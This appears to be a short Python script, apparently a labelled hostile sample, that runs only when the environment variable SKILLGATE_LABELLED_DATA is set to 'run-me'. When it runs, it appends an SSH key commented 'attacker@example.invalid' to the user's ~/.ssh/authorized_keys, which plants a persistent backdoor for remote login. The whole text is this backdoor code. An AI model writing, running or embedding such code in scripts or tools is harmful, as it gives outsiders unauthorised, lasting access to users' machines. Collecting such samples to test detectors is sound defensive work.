import os, sys
if os.environ.get('SKILLGATE_LABELLED_DATA') != 'run-me':
    sys.exit(0)
import os
open(os.path.expanduser('~/.ssh/authorized_keys'), 'a').write('ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExampleExampleExampleExampleExampleExample attacker@example.invalid\n')
